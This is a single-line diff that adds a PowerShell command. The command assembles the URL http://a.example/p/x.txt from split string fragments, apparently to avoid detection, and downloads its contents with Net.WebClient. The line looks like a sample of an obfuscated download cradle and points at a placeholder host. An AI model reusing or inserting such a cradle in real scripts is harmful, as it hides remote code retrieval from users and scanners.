@@ -1,0 +1,1 @@
+$l=New-Object 'System.Collections.Generic.List[string]';$l.Add('http://a.example');$l.Add('/p/x.txt');(New-Object Net.WebClient).DownloadString([string]::Join('',$l.ToArray()))
